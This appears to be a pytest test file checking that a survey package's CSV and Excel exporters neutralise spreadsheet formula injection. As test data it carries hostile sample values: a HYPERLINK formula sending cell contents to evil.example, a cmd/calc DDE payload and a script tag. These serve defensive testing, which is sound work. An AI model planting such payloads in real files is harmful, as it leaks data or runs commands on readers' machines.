"""Exported tables never carry a spreadsheet formula (issue 13, item 13)."""

import csv

import numpy as np
import pandas as pd
import pytest

import servgap
from servgap.io.export import safe_cell, safe_frame, write_csv, write_excel

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("+1.5e2", "+1.5e2"), ("-4,5", "-4,5"),          # plain numbers as text
    ("Jakarta", "Jakarta"), ("<script>alert(1)</script>", "<script>alert(1)</script>"), ("", ""),
    (-3.5, -3.5), (7, 7), (None, None),
])
def test_formula_leading_text_is_neutralised_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written
    assert type(safe_cell(value)) is type(written)


def test_safe_frame_neutralises_text_cells_column_names_and_categories():
    table = pd.DataFrame({"=cmd": ["=1+1", "a"], "gap": [-1.0, 2.0], "n": [3, 4],
                          "branch": pd.Categorical(["@x", "B"]),
                          "text": pd.Series(["+x", None], dtype="string")})
    out = safe_frame(table)
    assert out.columns.tolist() == ["'=cmd", "gap", "n", "branch", "text"]
    assert out["'=cmd"].tolist() == ["'=1+1", "a"]
    assert out["branch"].tolist() == ["'@x", "B"]
    assert out["text"].tolist()[0] == "'+x" and pd.isna(out["text"].tolist()[1])
    assert out["gap"].dtype == np.float64 and out["n"].dtype == np.int64
    assert table["=cmd"].tolist() == ["=1+1", "a"]  # the input is not changed


def _hostile_survey():
    raw = servgap.datasets.load_example(as_frame=True).head(60).copy()
    raw.loc[0, "respondent"] = HOSTILE_ID
    raw.loc[0, "E_1"] = 9  # out of scale: logged with the respondent's id
    raw.loc[1, "branch"] = "<script>alert(1)</script>"
    return servgap.read_survey(raw, "servqual22", id="respondent", segments=["branch"], on_invalid="missing",
                               dimension_weights="W_{dimension}")


def test_exclusion_log_with_a_formula_id_is_written_as_text(tmp_path):
    survey = _hostile_survey()
    assert HOSTILE_ID in survey.exclusions["respondent"].tolist()
    path = write_csv(survey.exclusions, tmp_path / "exclusions.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + HOSTILE_ID in cells and HOSTILE_ID not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.filterwarnings("ignore::servgap.SmallSampleWarning")  # the one-respondent <script> branch
def test_demo_writes_its_tables_through_the_safe_writer(tmp_path, monkeypatch):
    import servgap.demo as demo

    survey = _hostile_survey()
    monkeypatch.setattr(demo, "load_example", lambda: survey)
    demo.run_demo(tmp_path)
    text = (tmp_path / "exclusions.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK(" not in text and ",=HYPERLINK(" not in text


def test_excel_export_stores_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    path = write_excel({"exclusions": pd.DataFrame({"respondent": [HOSTILE_ID, "A"], "gap": [-1.0, 0.5]})},
                       tmp_path / "tables.xlsx")
    sheet = openpyxl.load_workbook(path)["exclusions"]
    assert sheet["A2"].value == "'" + HOSTILE_ID and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -1.0 and sheet["B2"].data_type == "n"
